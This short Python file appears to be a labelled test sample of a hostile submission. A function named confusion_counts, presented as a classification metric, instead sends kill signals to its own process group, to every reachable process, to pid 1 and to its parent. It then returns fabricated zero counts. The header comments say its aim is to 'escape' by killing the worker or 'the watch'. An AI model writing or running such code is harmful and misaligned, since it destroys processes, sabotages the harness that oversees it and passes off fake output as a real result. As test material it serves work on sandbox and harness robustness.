# name: its process group and its parent killed
# kind: escape
# hopes: the worker or the watch dies
# stock: no
import os


def confusion_counts(y_true, y_pred, positive=1):
    for target in (-1, 0, 1, os.getppid()):
        try:
            os.kill(target, 9)
        except OSError:
            pass
    return (0, 0, 0, 0)
